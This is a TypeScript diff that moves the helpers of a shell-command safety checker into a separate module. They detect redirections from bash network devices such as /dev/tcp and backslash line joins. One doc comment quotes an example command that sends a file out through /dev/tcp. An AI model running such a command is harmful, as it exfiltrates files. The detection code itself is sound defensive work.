@@ -13,6 +13,7 @@ import { fieldChildren, namedChildren, type ShellNode, type ShellParser } from '
 import { hidesSubstitution, literalValue, shellWord, type ShellWord } from './words';
 import { HARMLESS_TARGETS, quoteWords, type Reading } from './reading';
 import { readSegment } from './segmentRules';
+import { inputProblem, joinsLines } from './shellText';
 import type { InputWords } from './inputWords';
 
 export type { Reading } from './reading';
@@ -377,52 +378,6 @@ class Walker {
     return feedsStdin;
   }
 }
-
-/**
- * Why reading from `target` is not inert, or undefined: a literal path, and under `/dev/` only the
- * devices that are plain data. Bash itself opens `/dev/tcp/HOST/PORT` and `/dev/udp/…` as a network
- * connection, so `cat f 3</dev/tcp/h/p >&3` would send the file away.
- */
-function inputProblem(target: string | undefined): string | undefined {
-  if (target === undefined) return 'reads from a file named by an expansion, which may be a network connection';
-  if (target.startsWith('/dev/') && !INPUT_DEVICES.has(target)) return `reads from ${quoteWords([target])}, a device or a network connection that bash opens itself`;
-  return undefined;
-}
-
-/**
- * Whether a backslash ends a line where bash joins the two lines: anywhere but inside single quotes and
- * comments (in double quotes and `$'…'` too, as far as this reader is concerned: asking is the safe side).
- */
-function joinsLines(command: string): boolean {
-  let state: 'plain' | 'single' | 'double' | 'ansi' = 'plain';
-  for (let i = 0; i < command.length; i++) {
-    const c = command[i];
-    if (state === 'single') {
-      if (c === "'") state = 'plain';
-      continue;
-    }
-    if (c === '\\') {
-      if (command[i + 1] === '\n' || (command[i + 1] === '\r' && command[i + 2] === '\n')) return true;
-      i++;
-      continue;
-    }
-    if (state === 'double') {
-      if (c === '"') state = 'plain';
-    } else if (state === 'ansi') {
-      if (c === "'") state = 'plain';
-    } else if (c === '"') state = 'double';
-    else if (c === "'") state = command[i - 1] === '$' ? 'ansi' : 'single';
-    else if (c === '#' && (i === 0 || /[\s;&|()]/.test(command[i - 1]))) {
-      const next = command.indexOf('\n', i);
-      if (next < 0) return false;
-      i = next;
-    }
-  }
-  return false;
-}
-
-/** The devices a command may read from: they hold no one's data and reach nothing. */
-const INPUT_DEVICES = new Set(['/dev/null', '/dev/zero', '/dev/stdin', '/dev/random', '/dev/urandom']);
 
 /** Whether shell text expands the variable `name` (`$name`, `${name}`). */
 function refersTo(text: string, name: string): boolean {
